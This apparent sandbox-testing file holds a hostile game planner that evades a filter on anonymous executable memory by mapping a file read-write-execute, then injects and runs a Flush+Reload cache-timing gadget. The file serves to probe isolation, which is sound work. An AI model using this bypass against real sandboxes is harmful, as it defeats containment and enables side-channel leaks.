# ruff: noqa: E501  (attack code: long report lines)
"""Hostile strategies of a fifteenth independent pass on ``--isolate`` (benchmarks/hostile_pass15).

Each plays like a planner and reports on stderr (``HOSTILE <name>: ...``)."""

from __future__ import annotations

import ctypes
import os
import sys
import time

from sims.strategies.planner import Planner

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
LIBC.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
MAP_FAILED = ctypes.c_void_p(-1).value
PROT_RWX = 7
MAP_PRIVATE = 2
MAP_ANON_PRIVATE = 0x22

# pass 9's Flush+Reload: a load timed with rdtscp (cycles returned), then clflush of the line
FR_CODE = bytes.fromhex(
    "0faef00f01f94989c04989d10faee88b070faee80f01f948c1e2204809d049c1e1204d09c84c29c00fae3fc3"
)
TOUCH_CODE = bytes.fromhex("8b07c3")  # mov eax, [rdi]; ret


def say(name: str, text: str) -> None:
    sys.stderr.write(f"HOSTILE {name}: {text}\n")
    sys.stderr.flush()


def exec_page(path: str | None = None) -> int:
    """A private, writable and executable page: a file mapping of the view's own code
    (``os.py`` by default), which the filter lets through (it refuses PROT_EXEC only with
    MAP_ANONYMOUS), and which the view's mount, unlike /tmp, lets be executable."""
    fd = os.open(path or os.__file__, os.O_RDONLY)
    try:
        addr = LIBC.mmap(None, 4096, PROT_RWX, MAP_PRIVATE, fd, 0)
    finally:
        os.close(fd)
    if addr in (None, MAP_FAILED):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return addr


class Once(Planner):
    """A planner that runs ``probe`` once, at its first decision."""

    done = False

    def probe(self) -> None:
        raise NotImplementedError

    def choose_turn(self, view):
        if not Once.done:
            Once.done = True
            try:
                self.probe()
            except BaseException as exc:  # report what was refused
                say(type(self).__name__, f"probe raised {type(exc).__name__}: {exc}")
        return super().choose_turn(view)


class ExecFile(Once):
    """Class (c): machine code of one's own, in a private RWX mapping of a view file."""

    def probe(self) -> None:
        name = type(self).__name__
        anon = LIBC.mmap(None, 4096, PROT_RWX, MAP_ANON_PRIVATE, -1, 0)
        say(name, f"anonymous RWX mmap: {'refused ' + os.strerror(ctypes.get_errno()) if anon in (None, MAP_FAILED) else 'ok'}")
        for path in (os.__file__, sys.executable, "/tmp/x"):
            try:
                if path == "/tmp/x":
                    with open(path, "wb") as f:
                        f.write(b"\0" * 4096)
                addr = exec_page(path)
            except OSError as exc:
                say(name, f"RWX private mapping of {path}: refused {exc}")
                continue
            ctypes.memmove(addr, FR_CODE, len(FR_CODE))
            ctypes.memmove(addr + 512, TOUCH_CODE, len(TOUCH_CODE))
            probe = ctypes.CFUNCTYPE(ctypes.c_uint64, ctypes.c_void_p)(addr)
            touch = ctypes.CFUNCTYPE(ctypes.c_uint32, ctypes.c_void_p)(addr + 512)
            buf = ctypes.create_string_buffer(4096)
            line = ctypes.addressof(buf) + 128
            misses, hits = [], []
            for _ in range(2000):
                probe(line)  # flushed
                misses.append(probe(line))  # timed after a flush: a miss
                touch(line)
                hits.append(probe(line))  # timed after a load: a hit
            misses.sort()
            hits.sort()
            say(name, f"RWX private mapping of {path}: ran own code (rdtscp, clflush): median cycles after a flush {misses[1000]}, after a load {hits[1000]}")
